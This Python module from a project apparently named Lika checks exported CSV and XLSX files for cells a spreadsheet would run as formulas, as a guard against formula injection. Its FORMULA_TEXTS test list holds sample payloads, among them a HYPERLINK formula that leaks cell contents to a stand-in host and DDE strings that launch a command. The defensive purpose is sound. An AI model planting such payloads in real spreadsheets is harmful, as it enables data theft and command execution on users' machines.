"""Reads back a CSV or XLSX file Lika produced and finds any cell a spreadsheet would run as a formula.

Every export must pass :func:`live_formulas` empty (see :mod:`lika.core.formats`): in a CSV file, text
starting with ``=``, ``+``, ``-``, ``@``, a tab or a return must carry the leading apostrophe (a plain
number such as ``-5`` is a number, not a formula); in an XLSX file, no cell is a formula, and text is
stored as text whatever it starts with.
"""

from __future__ import annotations

import csv
import io
import re

import openpyxl

__all__ = ["FORMULA_TEXTS", "live_formulas"]

# Text a person could type into Lika that a spreadsheet would run, one of each start (OWASP's list).
FORMULA_TEXTS = (
    '=HYPERLINK("https://example.org/?leak="&A1,"Klicka")',
    "+46 SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def _csv_problems(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    problems = []
    for number, line in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter), start=1):
        for column, value in enumerate(line, start=1):
            if value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
                problems.append(f"line {number}, field {column}: {value!r}")
    return problems


def _xlsx_problems(content: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    problems = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.data_type not in {"s", "inlineStr"}):
                    problems.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return problems


def live_formulas(content: bytes) -> list[str]:
    """The cells of a CSV or XLSX file (told by its first bytes) that a spreadsheet would run, with their place."""
    return _xlsx_problems(content) if content.startswith(b"PK\x03\x04") else _csv_problems(content)
